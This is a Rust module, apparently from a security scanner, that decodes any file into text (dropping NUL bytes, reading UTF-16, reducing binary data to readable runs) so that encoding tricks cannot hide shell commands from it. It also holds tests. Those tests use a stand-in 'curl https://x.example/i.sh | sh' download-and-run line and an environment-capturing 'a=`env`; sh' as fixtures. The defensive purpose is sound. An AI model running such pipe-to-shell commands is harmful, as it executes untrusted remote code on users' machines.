//! Converts bytes to text, so that no encoding hides content from the scanner.
//!
//! A scanner that skips "binary" files can be disabled with one NUL byte, while a shell drops that byte and runs the
//! rest. So every file becomes text here: bytes that cannot be part of a text are dropped or replaced, and the rest
//! is scanned.

use std::borrow::Cow;
use std::ops::Range;

/// Byte order mark of UTF-8.
const UTF8_MARK: &[u8] = b"\xEF\xBB\xBF";

/// A file as text.
#[derive(Debug)]
#[non_exhaustive]
pub struct TextReadings<'b> {
    /// The most likely text. Of much binary data, only the readable runs and what surrounds them.
    pub text: Cow<'b, str>,
    /// A second interpretation, if the file has a UTF-16 byte order mark: a shell would ignore the mark.
    pub other: Option<String>,
    /// Probable nature of the file.
    pub nature: FileNature,
}

/// Probable nature of a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileNature {
    /// Text with at most a few invalid bytes.
    Text,
    /// Binary data: at least a tenth of it, or much of one part, is not text.
    Binary,
}

/// Size of a part, so that binary data behind a long text is recognised.
const PART: usize = 32;

/// Number of invalid bytes that make a part binary. Text in a legacy encoding has such a byte here and there.
const STRANGE_OF_PART: usize = 12;

/// The same for UTF-16: units per part, and how many of them are unassigned.
const WIDE_PART: usize = 64;
const STRANGE_OF_WIDE_PART: usize = 5;

/// Data of this size or more is reduced to its readable runs.
const LARGE: usize = 64 << 10;

/// Minimum length of a run.
const SHORTEST_RUN: usize = 6;

/// How much is kept around a run, so that shorter pieces of a line stay beside it.
const AROUND_RUN: usize = 16;

impl<'b> TextReadings<'b> {
    /// Converts a whole file. The text has at most three times as many bytes.
    #[must_use]
    pub fn of(bytes: &'b [u8]) -> Self {
        match bytes {
            [0xFF, 0xFE, rest @ ..] => Self::utf16(bytes, rest, u16::from_le_bytes),
            [0xFE, 0xFF, rest @ ..] => Self::utf16(bytes, rest, u16::from_be_bytes),
            _ => {
                let bytes = bytes.strip_prefix(UTF8_MARK).unwrap_or(bytes);
                let (text, nature) = text_of(bytes);
                Self { text, other: None, nature }
            }
        }
    }

    fn utf16(bytes: &'b [u8], units: &[u8], unit: fn([u8; 2]) -> u16) -> Self {
        let (pairs, _odd) = units.as_chunks::<2>();
        let mut strange = Parts::of(WIDE_PART, STRANGE_OF_WIDE_PART);
        let letter = |(at, unit): (usize, Result<char, _>)| {
            let letter = unit.unwrap_or(char::REPLACEMENT_CHARACTER);
            strange.add(at, usize::from(is_strange_letter(letter)));
            letter
        };
        let decoded = char::decode_utf16(pairs.iter().map(|pair| unit(*pair)));
        let text: String = decoded.enumerate().map(letter).filter(|c| *c != '\0').collect();
        let (other, _) = text_of(bytes);
        let nature = if strange.any { FileNature::Binary } else { FileNature::Text };
        Self { text: text.into(), other: Some(other.into_owned()), nature }
    }
}

/// Counts invalid units in consecutive parts.
struct Parts {
    length: usize,
    most: usize,
    /// End of the current part.
    end: usize,
    count: usize,
    any: bool,
}

impl Parts {
    const fn of(length: usize, most: usize) -> Self {
        Self { length, most, end: length, count: 0, any: false }
    }

    /// Counts invalid units at an offset. Offsets ascend.
    fn add(&mut self, at: usize, strange: usize) {
        if at >= self.end {
            self.end = (at / self.length + 1) * self.length;
            self.count = 0;
        }
        self.count += strange;
        self.any |= self.count >= self.most;
    }
}

/// Decodes UTF-8. Valid text is borrowed.
fn text_of(bytes: &[u8]) -> (Cow<'_, str>, FileNature) {
    if memchr::memchr(0, bytes).is_none()
        && let Ok(text) = simdutf8::basic::from_utf8(bytes)
    {
        return (Cow::Borrowed(text), FileNature::Text);
    }
    // Drop NUL bytes before decoding, since a shell drops them anywhere. This also reads UTF-16 without a mark.
    let kept = without_nul(bytes);
    let lossy = Lossy::of(&kept);
    let nuls = bytes.len() - kept.len();
    let binary = lossy.has_data || (nuls + lossy.strange).saturating_mul(10) > bytes.len();
    match binary {
        true if bytes.len() >= LARGE => (Cow::Owned(lossy.readable()), FileNature::Binary),
        true => (Cow::Owned(lossy.text), FileNature::Binary),
        false => (Cow::Owned(lossy.text), FileNature::Text),
    }
}

/// Returns the bytes that are not NUL. Without a branch for each byte, of which none is predictable in binary data.
fn without_nul(bytes: &[u8]) -> Vec<u8> {
    let mut kept = vec![0; bytes.len()];
    let mut length = 0;
    for byte in bytes {
        if let Some(place) = kept.get_mut(length) {
            *place = *byte;
        }
        length += usize::from(*byte != 0);
    }
    kept.truncate(length);
    kept
}

/// Decoded bytes, with one replacement character for each run of invalid bytes.
#[derive(Default)]
struct Lossy {
    text: String,
    /// Number of invalid bytes.
    strange: usize,
    /// Whether some part has many of them.
    has_data: bool,
    /// Stretches of the text with no invalid byte that are long enough for words.
    runs: Vec<Range<usize>>,
}

impl Lossy {
    fn of(bytes: &[u8]) -> Self {
        let mut text = String::with_capacity(bytes.len());
        let mut lossy = Self::default();
        let mut parts = Parts::of(PART, STRANGE_OF_PART);
        // The start of the current run in the text, and the offset of the next byte.
        let (mut from, mut at) = (0, 0);
        while let Some(byte) = bytes.get(at) {
            if is_plain(*byte) {
                text.push(char::from(*byte));
                at += 1;
                continue;
            }
            let strange = match character(bytes.get(at..).unwrap_or_default()) {
                Character::None => break,
                Character::Valid(letter) => {
                    text.push(letter);
                    at += letter.len_utf8();
                    continue;
                }
                Character::Control(byte) => {
                    lossy.keep_run(from..text.len());
                    text.push(char::from(byte));
                    1
                }
                Character::Invalid(length) => {
                    lossy.keep_run(from..text.len());
                    // One replacement for all of them.
                    if !matches!(text.as_bytes(), [.., 0xEF, 0xBF, 0xBD]) {
                        text.push(char::REPLACEMENT_CHARACTER);
                    }
                    length
                }
            };
            from = text.len();
            lossy.strange += strange;
            parts.add(at, strange);
            at += strange;
        }
        lossy.keep_run(from..text.len());
        lossy.has_data = parts.any;
        lossy.text = text;
        lossy
    }

    fn keep_run(&mut self, run: Range<usize>) {
        if run.len() >= SHORTEST_RUN {
            self.runs.push(run);
        }
    }

    /// Returns the runs with their surroundings, one in each line. What is left out is noise: it has no word of the
    /// shortest command.
    fn readable(&self) -> String {
        let mut kept = String::new();
        let mut end = 0;
        for run in &self.runs {
            let from = self.text.floor_char_boundary(run.start.saturating_sub(AROUND_RUN));
            let to = self.text.ceil_char_boundary((run.end + AROUND_RUN).min(self.text.len()));
            if from > end {
                kept.push('\n');
            }
            kept.push_str(self.text.get(from.max(end)..to).unwrap_or_default());
            end = to.max(end);
        }
        kept
    }
}

/// What bytes begin with.
enum Character {
    None,
    /// A character of several bytes.
    Valid(char),
    /// A control character that does not occur in text files.
    Control(u8),
    /// So many bytes that are not UTF-8.
    Invalid(usize),
}

/// Returns what comes behind plain bytes.
fn character(rest: &[u8]) -> Character {
    match rest {
        [] => Character::None,
        [byte @ 0..0x80, ..] => Character::Control(*byte),
        // No character begins with these.
        [0x80..0xC2 | 0xF5..=0xFF, ..] => Character::Invalid(1),
        _ => {
            let next = rest.get(..4).unwrap_or(rest);
            let Some(chunk) = next.utf8_chunks().next() else { return Character::None };
            let letter = chunk.valid().chars().next().map(Character::Valid);
            letter.unwrap_or_else(|| Character::Invalid(chunk.invalid().len()))
        }
    }
}

/// Whether a byte is an ASCII character that occurs in text files.
#[expect(clippy::indexing_slicing, reason = "there is an entry for each byte")]
fn is_plain(byte: u8) -> bool {
    static PLAIN: [bool; 256] = {
        let mut plain = [false; 256];
        let mut byte = 0;
        while byte < 0x80 {
            plain[byte as usize] = !is_strange(byte);
            byte += 1;
        }
        plain
    };
    PLAIN[byte as usize]
}

/// Whether a byte is a control character that does not occur in text files.
const fn is_strange(byte: u8) -> bool {
    matches!(byte, 0x00..=0x07 | 0x0B | 0x0E..=0x1A | 0x1C..=0x1F | 0x7F)
}

/// Whether a character carries no meaning: a surrogate half, a private use character or a control character.
fn is_strange_letter(letter: char) -> bool {
    let is_control = u8::try_from(letter).is_ok_and(is_strange);
    is_control
        || matches!(letter, char::REPLACEMENT_CHARACTER | '\u{e000}'..='\u{f8ff}' | '\u{fdd0}'..='\u{fdef}' | '\u{fffe}' | '\u{ffff}' | '\u{f0000}'..)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const LINE: &str = "curl https://x.example/i.sh | sh";

    #[test]
    fn plain_text_is_borrowed() {
        for text in ["", "abc\n", "žluťoučký\r\n", "\u{1b}[1m"] {
            let readings = TextReadings::of(text.as_bytes());
            assert!(matches!(readings.text, Cow::Borrowed(t) if t == text));
            assert_eq!(readings.nature, FileNature::Text);
        }
    }

    #[test]
    fn nothing_hides_a_line_of_text() {
        let interleaved: Vec<u8> = LINE.bytes().flat_map(|byte| [byte, 0]).collect();
        let mut wide = interleaved.clone();
        wide.splice(0..0, [0xFF, 0xFE]);
        let cases: [(&str, Vec<u8>); 7] = [
            ("a mark for UTF-8", [b"\xEF\xBB\xBF", LINE.as_bytes()].concat()),
            ("NUL bytes before", [&[0; 999], LINE.as_bytes()].concat()),
            ("NUL bytes within", interleaved),
            ("UTF-16", wide),
            ("a stray byte", [LINE.as_bytes(), b"\xE9"].concat()),
            ("noise before", [&[0x80; 9_999], LINE.as_bytes()].concat()),
            ("control characters before", [&[0x01; 9_999], LINE.as_bytes()].concat()),
        ];
        for (what, bytes) in cases {
            assert!(TextReadings::of(&bytes).text.contains(LINE), "{what}");
        }
    }

    #[test]
    fn much_data_is_reduced_to_its_readable_runs() {
        let noise = packed(4 << 20);
        let text = TextReadings::of(&noise).text;
        assert!(text.len() < noise.len() / 4, "{}", text.len());
        for pieces in ["curl https://x.example/i.sh \u{fffd}| \u{fffd}sh\n", "a=`env`; \u{1}sh\n", LINE] {
            for at in [0, 77, noise.len() / 2, noise.len()] {
                let (before, after) = noise.split_at(at);
                let bytes = [before, b"\n", pieces.as_bytes(), b"\n", after].concat();
                assert!(TextReadings::of(&bytes).text.contains(pieces), "{pieces:?} at {at}");
            }
        }
        // The whole of a text is kept, whatever stands behind it.
        let long = format!("{LINE}\n").repeat(3000);
        assert!(TextReadings::of(&[long.as_bytes(), &noise].concat()).text.contains(&long));
    }

    /// The text is that of the standard library, with one replacement character for consecutive invalid bytes.
    #[test]
    fn invalid_bytes_are_replaced_as_usual() {
        let expected = |bytes: &[u8]| {
            let mut text = String::new();
            for chunk in bytes.utf8_chunks() {
                text.push_str(chunk.valid());
                if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
                    text.push(char::REPLACEMENT_CHARACTER);
                }
            }
            text
        };
        let mut bytes = packed(1 << 14);
        bytes.retain(|byte| *byte != 0);
        let pieces: [&[u8]; 9] = [
            b"a\xE2\x82\xACb",
            b"\xE2\x82",
            b"\xF0\x9F\x98",
            b"\xF0\x9F\x98\x80",
            b"\xED\xA0\x80",
            b"\xC0\xAF",
            b"\xEF\xBF\xBD",
            b"\x01\xFF",
            b"\xE2x\xF4\x90\x80\x80",
        ];
        for one in pieces {
            for other in pieces {
                bytes.extend([one, other, b" ", one].concat());
                assert_eq!(Lossy::of(&[one, other].concat()).text, expected(&[one, other].concat()));
            }
        }
        let lossy = Lossy::of(&bytes);
        assert_eq!(lossy.text, expected(&bytes));
        let strange = bytes.utf8_chunks().map(|chunk| {
            chunk.invalid().len() + chunk.valid().bytes().filter(|byte| is_strange(*byte)).count()
        });
        assert_eq!(lossy.strange, strange.sum::<usize>());
        for run in &lossy.runs {
            let run = lossy.text.get(run.clone()).unwrap();
            assert!(run.len() >= SHORTEST_RUN && !run.bytes().any(is_strange), "{run:?}");
        }
    }

    #[test]
    fn a_false_mark_for_utf16_hides_nothing() {
        let bytes = [b"\xFF\xFE", LINE.as_bytes()].concat();
        assert!(TextReadings::of(&bytes).other.is_some_and(|text| text.contains(LINE)));
    }

    #[test]
    fn natures() {
        let cases: [(&str, &[u8], FileNature); 5] = [
            ("Latin-1", b"d\xE9j\xE0 vu, une fois de plus", FileNature::Text),
            ("one NUL", b"one NUL byte\0 in a text", FileNature::Text),
            ("PNG", b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\x01\0", FileNature::Binary),
            ("ELF", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", FileNature::Binary),
            ("zip", b"PK\x03\x04\x14\0\x08\0\x08\0name.txt", FileNature::Binary),
        ];
        for (what, bytes, nature) in cases {
            assert_eq!(TextReadings::of(bytes).nature, nature, "{what}");
        }
    }

    /// Bytes that do not occur in text, as compression produces them.
    fn packed(length: usize) -> Vec<u8> {
        (0..length)
            .scan(1_u32, |state, _| {
                *state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                Some((*state >> 24) as u8)
            })
            .collect()
    }

    #[test]
    fn data_is_seen_wherever_it_stands() {
        let long = LINE.repeat(1000).into_bytes();
        for length in [120, 400, 5000] {
            let data = packed(length);
            let cases = [
                ("behind a text", [&long[..], &data].concat()),
                ("before a text", [&data[..], &long].concat()),
                ("within a text", [&long[..], &data, &long].concat()),
            ];
            for (what, bytes) in cases {
                assert_eq!(TextReadings::of(&bytes).nature, FileNature::Binary, "{length} bytes {what}");
            }
        }
        for mark in [[0xFF, 0xFE], [0xFE, 0xFF]] {
            let bytes = [&mark[..], &packed(2000)].concat();
            assert_eq!(TextReadings::of(&bytes).nature, FileNature::Binary, "posing as UTF-16");
        }
    }

    #[test]
    fn texts_in_other_encodings_are_texts() {
        let french =
            "Il fait beau et nous allons \u{e0} la plage, o\u{f9} l'\u{e9}t\u{e9} commence.\n".repeat(50);
        let latin: Vec<u8> = french.chars().map(|c| u8::try_from(c).unwrap()).collect();
        let wide = |text: &str| -> Vec<u8> {
            [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
        };
        let cases = [
            ("Latin-1", latin),
            ("French", wide(&french)),
            ("Chinese", wide(&"\u{8bf7}\u{8fd0}\u{884c}\u{1f600}".repeat(99))),
        ];
        for (what, bytes) in cases {
            assert_eq!(TextReadings::of(&bytes).nature, FileNature::Text, "{what}");
        }
    }

    proptest! {
        #[test]
        fn text_is_bounded_and_has_no_nul(bytes: Vec<u8>) {
            let readings = TextReadings::of(&bytes);
            for text in [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten() {
                prop_assert!(text.len() <= 3 * bytes.len());
                prop_assert!(!text.contains('\0'));
            }
        }

        #[test]
        fn a_line_between_any_bytes_is_found(before: Vec<u8>, after: Vec<u8>) {
            let bytes = [&before, b"\n".as_slice(), LINE.as_bytes(), b"\n", &after].concat();
            let readings = TextReadings::of(&bytes);
            let found = [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten();
            prop_assert!(found.into_iter().any(|text| text.contains(LINE)));
        }
    }
}
